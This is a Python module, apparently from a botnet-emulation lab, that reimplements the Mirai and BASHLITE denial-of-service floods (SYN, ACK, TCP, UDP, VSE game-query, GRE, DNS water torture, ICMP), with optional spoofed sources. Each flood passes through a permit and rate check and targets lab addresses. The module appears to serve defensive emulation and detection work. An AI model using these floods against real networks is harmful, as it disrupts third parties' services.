"""Floods of packets that no connection carries, as Mirai and BASHLITE make them, within the limits of `guard`.

Shapes: Mirai's published source (2016, bot/attack_tcp.c, attack_udp.c, attack_gre.c); BASHLITE's TCP flood sets its
flags as told, here all or one of them. Payloads are random bytes. Where a source is forged, it is one of
`guard.FORGED`; forging stops at any router that does NAT, so it is seen on the LAN side of the gateway only.
"""

import random
import struct
from collections.abc import Callable
from typing import Final

from botwarden.lab import links, packets, plan, questions, raw
from botwarden.lab.acting import Actor, Outcome

WEB: Final = 80
PAYLOAD: Final = 512
"""Bytes, Mirai's default."""
MAX_PAYLOAD: Final = 1_400
GAME_PORT: Final = 27_015
GAME_QUESTION: Final = b"\xff\xff\xff\xffTSource Engine Query\0"
FLAGS: Final = {
    "syn": packets.SYN, "rst": packets.RST, "fin": packets.FIN, "ack": packets.ACK, "psh": packets.PSH,
    "all": packets.SYN | packets.RST | packets.FIN | packets.ACK | packets.PSH,
}  # fmt: skip
LETTERS: Final = "abcdefghijklmnopqrstuvw012345678"
"""Of the names in Mirai's DNS flood (bot/rand.c)."""

Make = Callable[[str, random.Random], bytes]
"""A packet from a source."""


def _flood(actor: Actor, target: str, count: int, rate: float, forged: bool, make: Make) -> str:
    """Send ``count`` packets; where from, for people."""
    permit = actor.permit
    permit.check(target)
    steps = permit.paced(count, rate)
    with raw.Packets(permit) as out:
        for _ in steps:
            source = raw.forged(permit, actor.random.getrandbits(16)) if forged else permit.source
            out.send(make(source, actor.random))
    return f", {rate:g} a second" + (f", from forged addresses of {plan.SCANNED}" if forged else "")


def _port(dice: random.Random) -> int:
    return dice.randrange(1_024, 65_536)


def _size(size: int) -> int:
    return min(size, MAX_PAYLOAD)


def syn(
    actor: Actor, /, *, target: str = plan.VICTIM_IP, port: int = WEB, count: int = 4_000, rate: float = 400.0,
    forged: bool = False,
) -> Outcome:  # fmt: skip
    """Connection requests from random ports, with the options that Mirai gives them, never completed."""
    host = links.address_of(target)

    def make(source: str, dice: random.Random) -> bytes:
        options = struct.pack(
            "!BBHBBBBIIBBBB", 2, 4, 1_400 + dice.getrandbits(4), 4, 2, 8, 10, dice.getrandbits(32), 0, 1, 3, 3, 6
        )
        return packets.tcp(
            source, host, src_port=_port(dice), dst_port=port, seq=dice.getrandbits(32), flags=packets.SYN,
            window=dice.getrandbits(16), options=options, ip_id=dice.getrandbits(16),
        )  # fmt: skip

    where = _flood(actor, host, count, rate, forged, make)
    return Outcome(count=count, target=host, what=f"{count} SYNs from random ports to port {port}{where}")


def ack(
    actor: Actor, /, *, target: str = plan.VICTIM_IP, port: int = WEB, count: int = 4_000, rate: float = 400.0,
    size: int = PAYLOAD, forged: bool = False,
) -> Outcome:  # fmt: skip
    """Packets with the ACK flag and random bytes that belong to no connection."""
    host = links.address_of(target)

    def make(source: str, dice: random.Random) -> bytes:
        return packets.tcp(
            source, host, src_port=_port(dice), dst_port=port, seq=dice.getrandbits(32), ack=dice.getrandbits(32),
            flags=packets.ACK, window=dice.getrandbits(16), payload=dice.randbytes(_size(size)),
            ip_id=dice.getrandbits(16),
        )  # fmt: skip

    where = _flood(actor, host, count, rate, forged, make)
    return Outcome(count=count, target=host, what=f"{count} ACKs of no connection to port {port}{where}")


def tcp(
    actor: Actor, /, *, target: str = plan.VICTIM_IP, port: int = WEB, count: int = 4_000, rate: float = 400.0,
    flags: str = "all", size: int = 0, forged: bool = False,
) -> Outcome:  # fmt: skip
    """TCP packets with the flags that the order names (all of them, or one), as BASHLITE sends them."""
    host = links.address_of(target)
    if flags not in FLAGS:
        raise ValueError(f"flags are one of {', '.join(FLAGS)}, not {flags!r}")

    def make(source: str, dice: random.Random) -> bytes:
        return packets.tcp(
            source, host, src_port=_port(dice), dst_port=port, seq=dice.getrandbits(32), flags=FLAGS[flags],
            window=dice.getrandbits(16), payload=dice.randbytes(_size(size)), ip_id=dice.getrandbits(16),
        )  # fmt: skip

    where = _flood(actor, host, count, rate, forged, make)
    said = f"{count} TCP packets with {flags} flags and no connection to port {port}{where}"
    return Outcome(count=count, target=host, what=said)


def udp(
    actor: Actor, /, *, target: str = plan.VICTIM_IP, port: int = 0, count: int = 4_000, rate: float = 400.0,
    size: int = PAYLOAD, forged: bool = False,
) -> Outcome:  # fmt: skip
    """UDP packets of random bytes from random ports, to one port or to random ones (0)."""
    host = links.address_of(target)

    def make(source: str, dice: random.Random) -> bytes:
        return packets.udp(
            source, host, src_port=_port(dice), dst_port=port or _port(dice), payload=dice.randbytes(_size(size)),
            ip_id=dice.getrandbits(16),
        )  # fmt: skip

    where = _flood(actor, host, count, rate, forged, make)
    ports = f"port {port}" if port else "random ports"
    return Outcome(count=count, target=host, what=f"{count} UDP packets of random bytes to {ports}{where}")


def vse(
    actor: Actor, /, *, target: str = plan.VICTIM_IP, count: int = 4_000, rate: float = 400.0, forged: bool = False
) -> Outcome:
    """The question of a game's client, again and again, to the port of game servers."""
    host = links.address_of(target)

    def make(source: str, dice: random.Random) -> bytes:
        return packets.udp(
            source, host, src_port=_port(dice), dst_port=GAME_PORT, payload=GAME_QUESTION, ip_id=dice.getrandbits(16)
        )

    where = _flood(actor, host, count, rate, forged, make)
    return Outcome(count=count, target=host, what=f"{count} questions to a game server that is none{where}")


def gre(
    actor: Actor, /, *, target: str = plan.VICTIM_IP, count: int = 4_000, rate: float = 400.0, size: int = PAYLOAD,
    ethernet: bool = False, forged: bool = False,
) -> Outcome:  # fmt: skip
    """GRE packets with a UDP packet inside between two addresses that are nobody's."""
    host = links.address_of(target)

    def make(source: str, dice: random.Random) -> bytes:
        inside = [raw.forged(actor.permit, dice.getrandbits(16)) for _ in range(2)]
        inner = packets.udp(
            *inside, src_port=_port(dice), dst_port=_port(dice), payload=dice.randbytes(_size(size)),
            ip_id=dice.getrandbits(16),
        )  # fmt: skip
        protocol = 0x0800
        if ethernet:
            inner, protocol = dice.randbytes(12) + b"\x08\x00" + inner, 0x6558
        return packets.gre(source, host, inner=inner, protocol=protocol, ip_id=dice.getrandbits(16))

    where = _flood(actor, host, count, rate, forged, make)
    return Outcome(count=count, target=host, what=f"{count} GRE packets{where}")


def dns(
    actor: Actor, /, *, target: str = plan.DNS_IP, domain: str = "victim.example", count: int = 3_000,
    rate: float = 200.0,
) -> Outcome:  # fmt: skip
    """Questions for random names below a domain, to a name server that has to ask the domain's own (water torture)."""
    host = links.address_of(target)

    def make(source: str, dice: random.Random) -> bytes:
        name = "".join(dice.choices(LETTERS, k=12))
        asked = questions.question(f"{name}.{domain}", dice.getrandbits(16))
        return packets.udp(
            source, host, src_port=_port(dice), dst_port=questions.PORT, payload=asked, ip_id=dice.getrandbits(16)
        )

    where = _flood(actor, host, count, rate, False, make)
    return Outcome(count=count, target=host, what=f"{count} questions for random names below {domain}{where}")


def icmp(
    actor: Actor, /, *, target: str = plan.VICTIM_IP, count: int = 4_000, rate: float = 400.0, size: int = 56,
    forged: bool = False,
) -> Outcome:  # fmt: skip
    """Pings, far more of them than anybody needs."""
    host = links.address_of(target)

    def make(source: str, dice: random.Random) -> bytes:
        number, data = dice.getrandbits(32), dice.randbytes(_size(size))
        return packets.ping(source, host, number=number, payload=data, ip_id=dice.getrandbits(16))

    where = _flood(actor, host, count, rate, forged, make)
    return Outcome(count=count, target=host, what=f"{count} pings{where}")
